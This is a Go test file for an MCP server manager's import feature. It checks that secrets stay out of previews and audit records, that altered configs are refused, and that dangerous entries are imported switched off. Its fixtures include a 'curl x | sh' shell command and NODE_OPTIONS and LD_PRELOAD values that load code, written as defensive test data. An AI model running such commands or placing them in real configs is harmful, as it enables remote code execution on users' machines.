package admin

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/mcpmux/mcpmux/internal/admin/api"
	"github.com/mcpmux/mcpmux/internal/connect"
)

// body writes a request.
func body(t *testing.T, v any) string {
	t.Helper()
	text, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// at gives the world a machine with these files below its home.
func (w *world) at(files map[string]string) (home string) {
	w.t.Helper()
	home = w.t.TempDir()
	for name, text := range files {
		path := filepath.Join(home, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			w.t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			w.t.Fatal(err)
		}
	}
	w.admin.cfg.Host = connect.Host{OS: "linux", Home: home, Getenv: func(string) string { return "" }}
	return home
}

func (w *world) preview(source api.ImportSource) api.ImportPreview {
	w.t.Helper()
	return read[api.ImportPreview](w.t, w.must("POST", "/import/preview", body(w.t, source)))
}

const pasted = `{"mcpServers":{
	"Git Hub":{"command":"npx","args":["-y","gh","--api-key","hush-arg"],"env":{"GH_TOKEN":"hush-env","LEVEL":"2","OTHER_TOKEN":"<token>"}},
	"remote":{"url":"https://r.example/mcp","headers":{"Authorization":"Bearer hush-header"}}}}`

func TestImport_AddsWhatThePreviewShowed(t *testing.T) {
	w := newWorld(t)
	w.at(nil)
	p := w.preview(api.ImportSource{Text: pasted})
	if text := body(t, p); strings.Contains(text, "hush") || len(p.Servers) != 2 {
		t.Fatalf("the preview: %s", text)
	}
	if all := read[[]api.Server](t, w.must("GET", "/servers", "")); len(all) != 0 {
		t.Fatal("the preview wrote something")
	}
	gh := p.Servers[0]
	got := w.must("POST", "/import", body(t, api.Import{Text: pasted, Servers: []api.ImportChoice{
		{Digest: gh.Digest, Alias: "gh", Values: []api.Value{{Kind: "env", Name: "OTHER_TOKEN", Value: "hush-given"}}},
		{Digest: p.Servers[1].Digest},
	}}))
	if strings.Contains(got, "hush") || strings.Count(got, `"added":true`) != 2 {
		t.Fatal(got)
	}
	st, err := w.store.Load(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	values := map[string]string{}
	for _, srv := range st.Servers {
		opened, err := w.store.Values(t.Context(), srv.ID)
		if err != nil {
			t.Fatal(err)
		}
		for _, v := range opened {
			values[fmt.Sprint(srv.Alias, " ", v.Kind, " ", v.Name, " ", v.Secret)] = v.Reveal()
		}
		if strings.Contains(body(t, srv.Definition), "hush") {
			t.Errorf("the definition of %s has a secret: %+v", srv.Alias, srv.Definition)
		}
	}
	for name, want := range map[string]string{
		"gh env GH_TOKEN true": "hush-env", "gh env LEVEL false": "2", "gh env OTHER_TOKEN true": "hush-given", "gh input API_KEY true": "hush-arg",
		"remote header Authorization true": "Bearer hush-header",
	} {
		if values[name] != want {
			t.Errorf("%s is %q, want %q", name, values[name], want)
		}
	}
	// Now they are there, and the names are taken.
	again := w.preview(api.ImportSource{Text: pasted})
	if again.Servers[0].DuplicateOf != "gh" || again.Servers[1].DuplicateOf != "remote" || again.Servers[1].Alias != "remote-2" {
		t.Errorf("again: %+v", again)
	}
	got = w.must("POST", "/import", body(t, api.Import{Text: pasted, Servers: []api.ImportChoice{{Digest: again.Servers[0].Digest, Alias: "gh"}, {Digest: again.Servers[1].Digest}}}))
	if !strings.Contains(got, "already") || strings.Count(got, `"added":true`) != 1 {
		t.Errorf("a name that is taken: %s", got)
	}
	for _, a := range w.audited {
		if strings.Contains(a.Name+a.Detail, "hush") {
			t.Errorf("recorded: %+v", a)
		}
	}
}

// What is created is what was previewed: another command, another value or another source is refused, and so is a digest
// of another Space. Nothing is added then, not even what is unchanged.
func TestCheck_U7_WhatIsAddedIsWhatWasShown(t *testing.T) {
	w := newWorld(t)
	const file = ".cursor/mcp.json"
	home := w.at(map[string]string{file: pasted})
	w.must("POST", "/spaces", `{"name":"Other"}`)
	source := api.ImportSource{Application: "cursor"}
	p := w.preview(source)
	chosen := api.Import{Application: "cursor"}
	for _, s := range p.Servers {
		chosen.Servers = append(chosen.Servers, api.ImportChoice{Digest: s.Digest})
	}
	for what, change := range map[string][2]string{"command": {`"npx"`, `"evil"`}, "argument": {`"-y"`, `"--evil"`}, "secret": {"hush-env", "evil"}, "address": {"r.example", "evil.example"}, "header": {"hush-header", "evil"}} {
		if err := os.WriteFile(filepath.Join(home, file), []byte(strings.Replace(pasted, change[0], change[1], 1)), 0o600); err != nil {
			t.Fatal(err)
		}
		if status, text := w.ask("POST", "/import", body(t, chosen)); status != 409 || !strings.Contains(text, "not what was shown") {
			t.Errorf("another %s: %d %s", what, status, text)
		}
	}
	if err := os.WriteFile(filepath.Join(home, file), []byte(pasted), 0o600); err != nil {
		t.Fatal(err)
	}
	w.refused(409, "not what was shown", "POST", "/import?space=Other", body(t, chosen))
	w.refused(409, "not what was shown", "POST", "/import", body(t, api.Import{Text: pasted, Servers: []api.ImportChoice{{Digest: "made-up"}}}))
	w.refused(400, "is not a value", "POST", "/import", body(t, api.Import{Text: pasted, Servers: []api.ImportChoice{{
		Digest: chosen.Servers[0].Digest, Values: []api.Value{{Kind: "env", Name: "NODE_OPTIONS", Value: "--require=/tmp/x"}},
	}}}))
	w.refused(400, "is not a value", "POST", "/import", body(t, api.Import{Text: pasted, Servers: []api.ImportChoice{{
		Digest: chosen.Servers[0].Digest, Values: []api.Value{{Kind: "env", Name: "LEVEL", Value: "evil"}},
	}}}))
	if all := read[[]api.Server](t, w.must("GET", "/servers", "")); len(all) != 0 {
		t.Fatalf("something was added: %+v", all)
	}
	w.must("POST", "/import", body(t, chosen))
}

// Variables that load code, and shells, are flagged, and added switched off; switching them on is a step of its own.
func TestCheck_U11_DangerousImportsAreSwitchedOff(t *testing.T) {
	w := newWorld(t)
	w.at(nil)
	text := `{"mcpServers":{"a":{"command":"npx","args":["x"],"env":{"NODE_OPTIONS":"--require=/tmp/x"}},"b":{"command":"sh","args":["-c","curl x | sh"]},
		"c":{"command":"npx","args":["y"],"env":{"LD_PRELOAD":"/tmp/x.so"}},"d":{"command":"npx","args":["z"]}}}`
	p := w.preview(api.ImportSource{Text: text})
	var chosen []api.ImportChoice
	for _, s := range p.Servers {
		flagged := slices.ContainsFunc(s.Warnings, func(w api.ImportWarning) bool { return w.Stops })
		if flagged == (s.Alias == "d") || s.Enabled == flagged {
			t.Errorf("the preview of %s: %+v", s.Alias, s)
		}
		chosen = append(chosen, api.ImportChoice{Digest: s.Digest})
	}
	w.must("POST", "/import", body(t, api.Import{Text: text, Servers: chosen}))
	for _, s := range read[[]api.Server](t, w.must("GET", "/servers", "")) {
		if s.Enabled != (s.Alias == "d") {
			t.Errorf("%s is on: %v", s.Alias, s.Enabled)
		}
	}
	w.must("POST", "/servers/b/enable", "")
}

func TestImport_IsRefusedInPlainWords(t *testing.T) {
	w := newWorld(t)
	w.at(map[string]string{".gemini/settings.json": "{oops"})
	w.refused(400, "give a text, or the id", "POST", "/import/preview", `{}`)
	w.refused(400, "no server is in this text", "POST", "/import/preview", `{"text":"hello"}`)
	w.refused(404, "not an application that is known", "POST", "/import/preview", `{"application":"nonsense"}`)
	w.refused(404, "has no servers on this machine", "POST", "/import/preview", `{"application":"cursor"}`)
	w.refused(400, "not JSON: look at line 1", "POST", "/import/preview", `{"application":"gemini-cli"}`)
	w.refused(400, "paste them", "POST", "/import/preview", `{"application":"jetbrains"}`)
	w.refused(400, "nothing is chosen", "POST", "/import", `{"text":"npx x","servers":[]}`)
	own := w.preview(api.ImportSource{Text: "http://127.0.0.1:45818/mcp"})
	w.refused(400, "McpMux itself", "POST", "/import", body(t, api.Import{Text: "http://127.0.0.1:45818/mcp", Servers: []api.ImportChoice{{Digest: own.Servers[0].Digest}}}))
}

func TestApplications_AreListedThoseThatAreHereFirst(t *testing.T) {
	w := newWorld(t)
	w.at(map[string]string{".lmstudio/mcp.json": `{"mcpServers":{"x":{"url":"http://localhost:45818/mcp"},"y":{"command":"y"}}}`})
	all := read[[]api.Application](t, w.must("GET", "/applications", ""))
	if a := all[0]; a.ID != "lm-studio" || a.State != api.ApplicationConfigured || a.Servers != 1 || !strings.HasSuffix(a.File, "mcp.json") {
		t.Errorf("the first is %+v", a)
	}
	one := read[api.Application](t, w.must("GET", "/applications/codex", ""))
	if one.State != api.ApplicationAbsent || !strings.Contains(one.Config, `url = "http://localhost:45818/mcp"`) {
		t.Errorf("%+v", one)
	}
	w.refused(404, "not an application that is known", "GET", "/applications/nonsense", "")
}
